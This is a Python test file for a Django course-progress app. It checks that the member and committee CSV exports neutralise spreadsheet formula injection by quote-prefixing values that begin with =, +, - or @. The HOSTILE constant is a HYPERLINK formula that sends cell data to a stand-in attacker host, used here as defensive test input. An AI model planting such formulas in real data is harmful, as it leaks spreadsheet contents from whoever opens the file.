import csv
import io

from django.urls import reverse

from courses.tests.conftest import build_module, complete

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm")'


def _rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_it_exports_no_formula_from_a_member_name_in_the_cell_csv(client_as, personas, org):
    module = build_module(org["committee"], title="@SUM(1+1)")
    member = personas["member_a"]
    member.full_name = HOSTILE
    member.save(update_fields=["full_name"])
    complete(member, module)
    response = client_as(personas["secretary_a"]).get(reverse("courses:cell_progress_csv", args=[org["cell_a"].pk]))
    cells = [value for row in _rows(response)[1:] for value in row]
    assert "'" + HOSTILE in cells and "'@SUM(1+1)" in cells
    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)


def test_it_exports_no_formula_from_a_cell_name_in_the_committee_csv(client_as, personas, org):
    build_module(org["committee"], title="-2+3")
    org["cell_a"].name = HOSTILE
    org["cell_a"].save(update_fields=["name"])
    response = client_as(personas["officer"]).get(reverse("courses:committee_progress_csv", args=[org["committee"].pk]))
    cells = [value for row in _rows(response)[1:] for value in row]
    assert "'" + HOSTILE in cells and "'-2+3" in cells
    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)
